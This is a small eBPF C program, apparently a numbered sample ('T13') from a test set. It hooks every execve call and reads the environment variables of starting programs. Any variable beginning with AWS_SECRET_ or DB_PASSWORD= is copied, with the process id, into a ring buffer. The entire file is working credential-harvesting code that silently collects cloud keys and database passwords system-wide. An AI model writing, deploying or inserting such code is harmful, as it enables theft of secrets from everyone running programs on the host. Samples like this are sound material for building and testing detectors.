// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T13: environment variables with a well-known name of a secret are copied as programs start.
#include "sample.h"

LICENSE;

struct secret {
	u32 pid;
	char text[96];
};
RINGBUF(env_out, 1 << 14);

SEC("tp/syscalls/sys_enter_execve")
int env_secrets(struct tp_enter *ctx)
{
	const char **env = (const char **)ctx->args[2], *e = NULL;
	char head[24];
	struct secret *s;

	for (int i = 0; i < 32; i++) {
		bpf_probe_read_user(&e, sizeof(e), env + i);
		if (!e)
			break;
		bpf_probe_read_user_str(head, sizeof(head), e);
		if (!STARTS(head, "AWS_SECRET_") && !STARTS(head, "DB_PASSWORD="))
			continue;
		s = bpf_ringbuf_reserve(&env_out, sizeof(*s), 0);
		if (!s)
			return 0;
		s->pid = tgid();
		bpf_probe_read_user_str(s->text, sizeof(s->text), e);
		bpf_ringbuf_submit(s, 0);
	}
	return 0;
}
